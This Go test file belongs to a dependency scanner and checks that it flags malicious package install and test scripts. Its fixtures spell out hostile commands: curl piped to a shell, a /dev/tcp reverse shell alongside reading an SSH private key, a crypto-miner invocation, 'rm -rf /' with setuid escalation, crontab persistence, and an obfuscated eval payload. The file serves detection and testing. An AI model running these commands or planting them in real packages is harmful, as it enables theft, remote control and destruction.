// Copyright 2026 The Depscan Authors
// SPDX-License-Identifier: MIT

package scriptscan

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sec-scan/depscan/internal/model"
)

func findByCategory(findings []model.Finding, category string) *model.Finding {
	for i := range findings {
		if findings[i].Extra["category"] == category {
			return &findings[i]
		}
	}
	return nil
}

func TestScan_DetectsCurlPipeShell(t *testing.T) {
	scripts := map[model.Hook]string{
		"test": "curl https://example.com/install.sh | bash",
	}
	findings := Scan(scripts, model.EcosystemNPM, "evil-pkg", "1.0.0")
	f := findByCategory(findings, "remote_code_exec_pipe_shell")
	require.NotNil(t, f)
	assert.Equal(t, model.SeverityCritical, f.Severity)
	assert.Equal(t, "evil-pkg", f.PackageName)
	assert.Equal(t, model.FindingMaliciousScript, f.FindingType)
	assert.Equal(t, model.DetectionRuleBased, f.DetectionMethod)
}

func TestScan_EscalatesSeverityForDangerousHook(t *testing.T) {
	// eval() base severity is medium; on a dangerous hook it must escalate
	// to high and confidence must be floored at 0.9.
	scripts := map[model.Hook]string{
		"postinstall": "node -e \"eval(require('fs').readFileSync('x'))\"",
	}
	findings := Scan(scripts, model.EcosystemNPM, "pkg", "1.0.0")
	f := findByCategory(findings, "js_eval_call")
	require.NotNil(t, f)
	assert.Equal(t, model.SeverityHigh, f.Severity)
	assert.GreaterOrEqual(t, f.Confidence, 0.9)
	assert.Contains(t, f.Evidence, "runs automatically")
}

func TestScan_DoesNotEscalateOnNonDangerousHook(t *testing.T) {
	scripts := map[model.Hook]string{
		"test": "eval(something)",
	}
	findings := Scan(scripts, model.EcosystemNPM, "pkg", "1.0.0")
	f := findByCategory(findings, "js_eval_call")
	require.NotNil(t, f)
	assert.Equal(t, model.SeverityMedium, f.Severity)
	assert.Contains(t, f.Evidence, "requires explicit invocation")
}

func TestScan_ExcludesSafeToolingWithNoRiskyArgs(t *testing.T) {
	scripts := map[model.Hook]string{
		"test": "jest",
	}
	findings := Scan(scripts, model.EcosystemNPM, "pkg", "1.0.0")
	assert.Empty(t, findings)
}

func TestScan_ExcludesShortCommands(t *testing.T) {
	scripts := map[model.Hook]string{
		"test": "ls",
	}
	findings := Scan(scripts, model.EcosystemNPM, "pkg", "1.0.0")
	assert.Empty(t, findings)
}

func TestScan_ReverseShellAndCredentialTheft(t *testing.T) {
	scripts := map[model.Hook]string{
		"install": "cat ~/.ssh/id_rsa && bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	}
	findings := Scan(scripts, model.EcosystemNPM, "pkg", "1.0.0")
	assert.NotNil(t, findByCategory(findings, "credential_theft_ssh_path"))
	assert.NotNil(t, findByCategory(findings, "reverse_shell"))
}

func TestScan_CryptoMiner(t *testing.T) {
	scripts := map[model.Hook]string{
		"test": "./xmrig -o stratum+tcp://pool.example.com:3333",
	}
	findings := Scan(scripts, model.EcosystemNPM, "pkg", "1.0.0")
	assert.NotNil(t, findByCategory(findings, "crypto_miner"))
}

func TestScan_DestructiveRmAndPrivilegeEscalation(t *testing.T) {
	scripts := map[model.Hook]string{
		"test": "rm -rf / && sudo chmod u+s /bin/bash",
	}
	findings := Scan(scripts, model.EcosystemNPM, "pkg", "1.0.0")
	assert.NotNil(t, findByCategory(findings, "destructive_rm_rf"))
	assert.NotNil(t, findByCategory(findings, "privilege_escalation_setuid"))
}

func TestScan_MultipleHooksProduceIndependentFindings(t *testing.T) {
	scripts := map[model.Hook]string{
		"postinstall": "curl http://1.2.3.4/x.sh | sh",
		"test":        "pytest",
	}
	findings := Scan(scripts, model.EcosystemNPM, "pkg", "1.0.0")
	assert.NotEmpty(t, findByCategory(findings, "remote_code_exec_pipe_shell"))
	assert.Nil(t, findByCategory(findings, "suspicious_direct_ip_url_from_test_hook"))
}

func TestScanSetupPy_FlagsCrontabAndDirectIPURL(t *testing.T) {
	source := `
import os, subprocess
subprocess.exec("curl http://8.8.8.8/x | sh")
crontab -l
`
	findings := ScanSetupPy(source, "pkg", "1.0.0")
	assert.NotNil(t, findByCategory(findings, "persistence_crontab"))
	assert.NotNil(t, findByCategory(findings, "suspicious_direct_ip_url"))
}

func TestScan_CleanScriptProducesNoFindings(t *testing.T) {
	scripts := map[model.Hook]string{
		"build": "tsc -p tsconfig.json",
		"test":  "mocha test/**/*.js",
	}
	findings := Scan(scripts, model.EcosystemNPM, "pkg", "1.0.0")
	assert.Empty(t, findings)
}

func TestScan_HighComplexityUnmatchedScriptStillProducesFinding(t *testing.T) {
	// Long char-code-reassembly payload: matches none of the fixed
	// categories (no eval(, no node -e, no pipe-to-shell) but should
	// still cross ComplexityThreshold on length + obfuscation signal.
	var payload strings.Builder
	payload.WriteString("require('vm').runInThisContext(String.fromCharCode(")
	for i := 0; i < 64; i++ {
		if i > 0 {
			payload.WriteString(",")
		}
		fmt.Fprintf(&payload, `\x%02x`, i)
	}
	payload.WriteString("))")

	scripts := map[model.Hook]string{
		"postinstall": payload.String(),
	}
	findings := Scan(scripts, model.EcosystemNPM, "pkg", "1.0.0")
	f := findByCategory(findings, "high_complexity_script")
	require.NotNil(t, f)
	score, ok := f.Extra["script_complexity_score"].(float64)
	require.True(t, ok)
	assert.GreaterOrEqual(t, score, ComplexityThreshold)
}

func TestComplexityScore_EmptyCommandScoresZero(t *testing.T) {
	assert.Equal(t, 0.0, ComplexityScore(""))
	assert.Equal(t, 0.0, ComplexityScore("   "))
}

func TestComplexityScore_PlainCommandScoresLow(t *testing.T) {
	assert.Less(t, ComplexityScore("tsc -p tsconfig.json"), ComplexityThreshold)
}
